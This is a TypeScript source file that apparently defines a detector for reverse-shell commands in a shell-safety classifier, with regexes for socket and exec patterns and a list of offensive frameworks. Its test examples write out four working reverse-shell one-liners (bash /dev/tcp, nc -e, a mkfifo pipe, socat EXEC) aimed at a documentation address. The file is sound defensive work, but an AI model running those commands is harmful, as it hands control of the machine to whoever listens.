// The capability of handing a shell to whoever is on the other end of a connection.

import { type SimpleCommand, textsOf } from '../../../shell/command-line.ts';
import { isShellProgram } from '../../../shell/executors.ts';
import { defineCapability } from '../../capability.ts';
import { hasOption, onlyAsks } from '../../words.ts';

const CONNECTS =
  /\b(?:socket|TCPSocket|Socket\.tcp|fsockopen|pfsockopen|IO::Socket|net\.connect|net\.Socket|net\.Dial|createConnection|TcpClient|TcpStream|Net::TCP|s_client|inet_tcp|Deno\.connect|connect\(|ClientSocket|java\.net|Socket\s?\(|UNIXSocket)|\/inet\/(?:tcp|udp)|\/dev\/tcp/;
const HANDS_OVER =
  /\b(?:dup2|pty\.spawn|subprocess|exec[lv]?p?e?|spawn\w{0,6}|popen|system|shell|proc_open|Process|ProcessBuilder|exec\.Command|getline|cmd\.exe|run\s?\(|pipeline\s?\(|fdopen)\b|\/bin\/(?:ba|z|da)?sh\b|["'](?:ba|z|da|k)?sh["' ]/;
/** Listeners and frameworks that exist to hold a shell of another machine. */
const FRAMEWORKS =
  /^(?:pwncat|pwncat-cs|ztcp|msfconsole|msfvenom|msfdb|sliver-(?:client|server)|empire|havoc|merlin\w{0,10}|villain|evil-winrm|chameleon|weevely|powercat|revshell|hoaxshell|koadic|pupy\w{0,3}|covenant|mythic-cli|meterpreter|cobaltstrike|impacket-(?:psexec|wmiexec|smbexec|atexec|dcomexec)|psexec\.py|wmiexec\.py|smbexec\.py|crackmapexec|netexec|nxc|beef-xss|setoolkit|commix|sqlmap|xsser|routersploit|armitage|stratus|pacu|cloudgoat|atomic-operator|caldera)$/;
/** Words of these are data, whatever they say. */
const SAYS = /^(?:echo|printf|cat|grep|egrep|rg|ag|git|gh|glab|jq|sed|tee|export|read|test|\[|)$/;

export const reverseShell = defineCapability({
  id: 'reverse-shell',
  title: 'gives a shell to another machine',
  rationale: 'Whoever is on the other side then does what they like as this user.',
  tier: 3,
  safer: "Log in over ssh with an account of one's own.",
  attack: ['T1059', 'T1571'],
  examples: {
    has: [
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'nc -e /bin/sh 192.0.2.1 4444',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
      'socat TCP:192.0.2.1:4444 EXEC:/bin/sh',
    ],
    lacks: ['nc -z localhost 80', 'bash -i', 'python3 -c "print(1)"', 'echo /dev/tcp/a/1'],
  },
  detect(command) {
    if (onlyAsks(command)) return undefined;
    const { program, redirects, input } = command;
    if (FRAMEWORKS.test(program)) return true;
    if (redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))) return true;
    if (
      /^(?:nc|ncat|netcat|nc\.\w+)$/.test(program) &&
      (hasOption(command, 'ec', 'exec', 'sh-exec', 'lua-exec') ||
        input.some((before) => isShellProgram(before.program)))
    )
      return true;
    if (/^(?:telnet|openssl|ncat|socat)$/.test(program) && input.some((before) => isShellProgram(before.program)))
      return true;
    if (
      isShellProgram(program) &&
      input.some((before) => /^(?:nc|ncat|netcat|telnet|socat|openssl)$/.test(before.program))
    )
      return true;
    if (program === 'socat' && textsOf(command).some((text) => /^(?:EXEC|SYSTEM):/i.test(text))) return true;
    return codeConnects(command) ? true : undefined;
  },
});

function codeConnects({ code, program, words, inputText }: SimpleCommand): boolean {
  if (SAYS.test(program)) return false;
  // Editors, debuggers and lesser interpreters take code in their words or on standard input too.
  const texts =
    code?.text !== undefined
      ? [code.text]
      : isShellProgram(program)
        ? []
        : [...words.map((word) => word.text), inputText ?? ''];
  return texts.some((text) => text.length > 20 && text.length < 20_000 && CONNECTS.test(text) && HANDS_OVER.test(text));
}
